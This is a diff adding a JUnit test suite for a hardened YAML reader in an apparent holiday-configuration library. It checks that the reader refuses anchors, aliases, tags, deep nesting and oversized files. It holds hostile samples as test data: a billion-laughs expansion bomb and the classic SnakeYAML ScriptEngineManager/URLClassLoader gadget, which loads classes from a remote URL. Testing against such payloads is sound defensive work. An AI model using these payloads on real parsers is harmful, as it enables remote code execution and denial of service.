@@ -1,0 +1,129 @@
+package org.slakit.config;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertThrows;
+import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
+
+import java.io.BufferedWriter;
+import java.io.StringReader;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
+
+class SafeYamlTest {
+
+    /** No hostile file may take longer than this to be refused. */
+    private static final Duration QUICKLY = Duration.ofSeconds(20);
+
+    private static String refusal(String text) {
+        PolicyException e = assertTimeoutPreemptively(QUICKLY,
+                () -> assertThrows(PolicyException.class, () -> SafeYaml.read(new StringReader(text), "evil.yaml")));
+        return e.getMessage();
+    }
+
+    private static String billionLaughs() {
+        StringBuilder sb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
+        for (char c = 'b'; c <= 'i'; c++) {
+            char before = (char) (c - 1);
+            sb.append(c).append(": &").append(c).append(" [");
+            for (int i = 0; i < 9; i++) {
+                sb.append(i == 0 ? "" : ",").append('*').append(before);
+            }
+            sb.append("]\n");
+        }
+        return sb.toString();
+    }
+
+    static Stream<Arguments> hostileFiles() {
+        return Stream.of(
+                // the billion laughs: refused at its first anchor, before any alias is seen
+                Arguments.of(billionLaughs(), "evil.yaml:1:4: a: Anchors are not allowed, was &a"),
+                // an anchor on a scalar, which Jackson 2 itself does not report
+                Arguments.of("a: &x 1\n", "evil.yaml:1:4: a: Anchors are not allowed, was &x"),
+                // an alias, even one whose anchor is missing
+                Arguments.of("a: 1\nb: [2, *x]\n", "evil.yaml:2:8: b: Aliases are not allowed, was *x"),
+                // a Java type tag: SnakeYAML's classic gadget
+                Arguments.of("exploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n",
+                        "evil.yaml:1:10: exploit: Tags are not allowed, was !!javax.script.ScriptEngineManager"),
+                // a standard tag is a tag too
+                Arguments.of("region: !!str cn\n", "evil.yaml:1:9: region: Tags are not allowed, was !!str"),
+                // a local tag
+                Arguments.of("covers: !range {from: 2019-01-01}\n", "evil.yaml:1:9: covers: Tags are not allowed, was !range"),
+                // 20,000 nested lists
+                Arguments.of("a: " + "[".repeat(20_000) + "]".repeat(20_000) + "\n",
+                        // the root mapping is the first level: the 64th list is the 65th
+                        "evil.yaml:1:67: a" + "[0]".repeat(62) + ": "
+                                + "Nesting is deeper than the limit of 64 levels"),
+                // 20,000 nested mappings
+                Arguments.of("{a: ".repeat(20_000) + "}".repeat(20_000) + "\n",
+                        "evil.yaml:1:257: " + String.join(".", java.util.Collections.nCopies(64, "a"))
+                                + ": Nesting is deeper than the limit of 64 levels"),
+                // a key given twice
+                Arguments.of("region: cn\nname: x\nregion: hk\n", "evil.yaml:3:1: region: Key 'region' is given twice"),
+                // two documents in one file
+                Arguments.of("region: cn\n---\nregion: hk\n", "evil.yaml:3:1: File holds more than one YAML document: remove the second"),
+                // nothing at all
+                Arguments.of("# only a comment\n", "evil.yaml:1:1: File is empty: it must hold one YAML mapping"),
+                // broken syntax
+                Arguments.of("a: [1, 2\nb: 3\n", "evil.yaml:2:2: a: YAML syntax: expected ',' or ']', but got :"));
+    }
+
+    @ParameterizedTest
+    @MethodSource("hostileFiles")
+    void read_hostileOrBrokenFile_refusedWithFileLineAndColumn(String text, String message) {
+        assertEquals(message, refusal(text));
+    }
+
+    @Test
+    void read_plainDocument_keepsPathsLinesAndText() {
+        YamlNode root = SafeYaml.read(new StringReader("a: 2025-01-28\nb:\n  - {c: yes, d: ~}\n"), "ok.yaml");
+        YamlNode c = root.locate("b[0].c");
+        assertEquals("b[0].c", c.path());
+        assertEquals("yes", c.text());
+        assertEquals(3, c.line());
+        assertEquals(9, c.column());
+        assertEquals(true, root.locate("b[0].d").isNull());
+        assertEquals("2025-01-28", root.get("a").orElseThrow().text());
+        // a path beyond the tree stops at the deepest node on it
+        assertEquals("b[0]", root.locate("b[0].hours[2]").path());
+        assertEquals("b", root.locate("b[7]").path());
+    }
+
+    @Test
+    void load_fortyMegabyteFile_refusedWithoutReadingItAll(@TempDir Path dir) throws Exception {
+        Path file = dir.resolve("huge.yaml");
+        String entry = "  - {date: 2025-01-28, name: Spring Festival, name-zh: 春节}\n";
+        try (BufferedWriter w = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
+            w.write("slakit-holidays: 1\nregion: cn\nname: huge\ncovers: {from: 2025-01-01, to: 2025-12-31}\ndays-off:\n");
+            for (long written = 0; written < 40L * 1024 * 1024; written += entry.length() + 4) {
+                w.write(entry);
+            }
+        }
+        PolicyException e = assertTimeoutPreemptively(QUICKLY, () -> assertThrows(PolicyException.class, () -> HolidayYaml.load(file)));
+        assertEquals(1, e.problems().size());
+        assertEquals("File is longer than the limit of 1048576 characters", e.problems().get(0).message());
+        assertEquals(true, e.getMessage().startsWith(file + ":"), e.getMessage());
+    }
+
+    @Test
+    void load_fortyMegabyteScalar_refused(@TempDir Path dir) throws Exception {
+        Path file = dir.resolve("scalar.yaml");
+        try (BufferedWriter w = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
+            w.write("name: ");
+            String chunk = "x".repeat(1 << 16);
+            for (int i = 0; i < 640; i++) {
+                w.write(chunk);
+            }
+            w.write("\n");
+        }
+        PolicyException e = assertTimeoutPreemptively(QUICKLY, () -> assertThrows(PolicyException.class, () -> HolidayYaml.load(file)));
+        assertEquals("File is longer than the limit of 1048576 characters", e.problems().get(0).message());
+    }
+}
